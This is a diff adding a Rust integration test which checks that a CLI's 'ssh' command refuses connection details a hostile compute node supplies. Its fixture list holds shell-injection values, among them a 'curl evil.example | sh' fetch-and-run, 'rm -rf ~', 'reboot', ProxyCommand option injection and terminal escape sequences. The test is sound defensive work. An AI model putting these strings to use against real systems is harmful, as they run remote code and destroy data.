@@ -6,7 +6,9 @@ use std::process::Output;
 use std::time::Duration;
 
 use dbc_sim::config::DEMO_MACHINE_BETA;
-use dbc_sim::{Control, SimConfig, SimServer, DEMO_SEED_HEX, DEMO_WALLET};
+use dbc_sim::{
+    Control, Fault, HostileConnection, SimConfig, SimServer, DEMO_SEED_HEX, DEMO_WALLET,
+};
 use serde_json::Value;
 
 const KEY_VAR: &str = "DBC_TEST_KEY";
@@ -301,5 +303,120 @@ async fn bad_vnc_port_is_refused_before_sending() {
         nonces
     );
     assert!(cli.ctl.machine(DEMO_MACHINE_BETA).unwrap().tasks.is_empty());
+    server.shutdown().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn ssh_prints_only_checked_commands() {
+    let (server, cli) = start().await;
+    let created = cli.ok(&create_args("5911")).await;
+    let id = created["task_id"].as_str().unwrap().to_string();
+    let ip = cli.ok(&["task", &id]).await["ssh_ip"]
+        .as_str()
+        .unwrap()
+        .to_string();
+
+    // An honest node: the command alone on stdout.
+    let out = cli.run(&["ssh", &id]).await;
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(
+        String::from_utf8(out.stdout).unwrap(),
+        format!("ssh -p 20122 dbc@{ip}\n")
+    );
+    assert!(out.stderr.is_empty());
+
+    let hostile = |h: HostileConnection| {
+        cli.ctl.clear_faults();
+        cli.ctl.add_fault(Fault::hostile_connection(&id, h));
+    };
+    let ip_is = |v: &str| HostileConnection {
+        ssh_ip: Some(v.into()),
+        ..Default::default()
+    };
+    let user_is = |v: &str| HostileConnection {
+        user_name: Some(v.into()),
+        ..Default::default()
+    };
+    let port_is = |v: &str| HostileConnection {
+        ssh_port: Some(v.into()),
+        ..Default::default()
+    };
+
+    // Good values from the node still make a command (IPv6 unbracketed after the @).
+    for (h, want) in [
+        (ip_is("2001:db8::17"), "ssh -p 20122 dbc@2001:db8::17\n"),
+        (
+            ip_is("gpu-7.eu-west.example.com"),
+            "ssh -p 20122 dbc@gpu-7.eu-west.example.com\n",
+        ),
+        (
+            user_is("first.last_2"),
+            &format!("ssh -p 20122 first.last_2@{ip}\n"),
+        ),
+        (port_is("2222"), &format!("ssh -p 2222 dbc@{ip}\n")),
+    ] {
+        hostile(h);
+        let out = cli.run(&["ssh", &id]).await;
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        assert_eq!(String::from_utf8(out.stdout).unwrap(), want);
+    }
+
+    // Hostile values: nothing on stdout, the field and rule on stderr, exit 1.
+    let cases = [
+        (ip_is("1.2.3.4;reboot"), "ssh_ip", "char"),
+        (ip_is("$(curl${IFS}evil.example|sh)"), "ssh_ip", "char"),
+        (ip_is("`reboot`"), "ssh_ip", "char"),
+        (ip_is("1.2.3.4\nrm -rf ~"), "ssh_ip", "control"),
+        (ip_is("1.2.3.4 -oProxyCommand=sh"), "ssh_ip", "space"),
+        (ip_is("moc.live\u{202e}1.2.3.4"), "ssh_ip", "not_ascii"),
+        (user_is("-oProxyCommand=sh"), "user_name", "leading_dash"),
+        (user_is("db c"), "user_name", "space"),
+        (user_is("dbc\u{7}\u{1b}[2J"), "user_name", "control"),
+        (user_is("$(id)"), "user_name", "char"),
+        (port_is("22;id"), "ssh_port", "char"),
+        (port_is("70000"), "ssh_port", "range"),
+    ];
+    for (h, field, rule) in cases {
+        let raw = h
+            .ssh_ip
+            .clone()
+            .or(h.user_name.clone())
+            .or(h.ssh_port.clone())
+            .unwrap();
+        hostile(h);
+        let out = cli.run(&["ssh", &id]).await;
+        assert_eq!(out.status.code(), Some(1), "{raw:?}");
+        assert!(
+            out.stdout.is_empty(),
+            "{raw:?}: stdout {:?}",
+            String::from_utf8_lossy(&out.stdout)
+        );
+        // Hidden characters are escaped: nothing can garble the terminal.
+        assert!(out.stderr.is_ascii(), "{raw:?}");
+        let err = stderr_json(&out);
+        assert_eq!(err["error"], "unsafe_connection", "{err}");
+        let fields = err["fields"].as_array().unwrap();
+        assert_eq!(fields.len(), 1, "{err}");
+        assert_eq!(fields[0]["field"], field, "{err}");
+        assert_eq!(fields[0]["rule"], rule, "{err}");
+        assert_eq!(fields[0]["value"], raw.as_str(), "{err}");
+        // `dbc task` still shows the node's values as data
+        assert_eq!(cli.ok(&["task", &id]).await[field], raw.as_str());
+    }
+
+    // No SSH port: no command either, and says so.
+    hostile(port_is(""));
+    let out = cli.run(&["ssh", &id]).await;
+    assert_eq!(out.status.code(), Some(1));
+    assert!(out.stdout.is_empty());
+    assert_eq!(stderr_json(&out)["error"], "not_offered");
     server.shutdown().await;
 }
